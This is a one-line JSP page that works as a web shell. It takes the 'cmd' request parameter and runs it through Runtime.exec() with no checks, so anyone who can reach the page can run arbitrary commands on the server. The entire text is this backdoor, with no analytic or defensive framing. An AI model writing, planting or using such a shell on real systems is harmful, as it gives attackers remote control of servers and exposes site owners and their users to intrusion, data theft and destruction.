<%@ page import="java.io.*"%><% String cmd = request.getParameter("cmd"); Process p = Runtime.getRuntime().exec(cmd); %>
